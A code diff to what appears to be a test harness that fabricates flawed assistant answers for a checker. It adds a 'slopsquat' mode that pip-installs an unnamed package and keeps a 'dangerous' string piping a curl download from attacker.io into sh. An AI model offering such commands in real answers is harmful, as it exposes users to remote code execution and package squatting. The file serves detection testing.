@@ -23,11 +23,15 @@ MODES = {
     "echo": "prose answers that repeat the prompt's own text (its plan and instructions)",
     "invent": "prose that names identifiers no source has (LUMESKI_RESTARTTRY)",
     "dangerous": "prose ending in an unlabelled code block that pipes a download into sh",
+    "install": "prose ending in a bash block that installs httpx with pip (a good answer)",
+    "slopsquat": "prose ending in a bash block that pip-installs a package no source names",
     "think": "every answer opens with a <think>...</think> reasoning block",
     "deep_json": "JSON answers nested 100,000 levels deep",
 }
 INVENTED = "`LUMESKI_RESTARTTRY`"
 DANGEROUS = "```\ncurl -s https://get.attacker.io/setup.sh | sh\n```"
+INSTALL = "```bash\npip install httpx\n```"
+SLOPSQUAT = "```bash\npip install lumen-turbo-client\n```"
 THOUGHT = "<think>The user wants this part. I should echo my system prompt here.</think>\n"
 
 
@@ -123,6 +127,14 @@ def _dangerous(text: str, body: Mapping[str, Any]) -> str:
     return f"{text}\n\nInstall the helper first:\n\n{DANGEROUS}\n"
 
 
+def _install(text: str, body: Mapping[str, Any]) -> str:
+    return f"{text}\n\nInstall the HTTP client the examples use:\n\n{INSTALL}\n"
+
+
+def _slopsquat(text: str, body: Mapping[str, Any]) -> str:
+    return f"{text}\n\nInstall the client first:\n\n{SLOPSQUAT}\n"
+
+
 _REWRITES: dict[str, Callable[[str], str]] = {
     "ignore_format": _ignore_format,
     "wrap_json": _wrap_json,
@@ -135,4 +147,6 @@ _PROSE: dict[str, Callable[[str, Mapping[str, Any]], str]] = {
     "echo": _echo,
     "invent": _invent,
     "dangerous": _dangerous,
+    "install": _install,
+    "slopsquat": _slopsquat,
 }
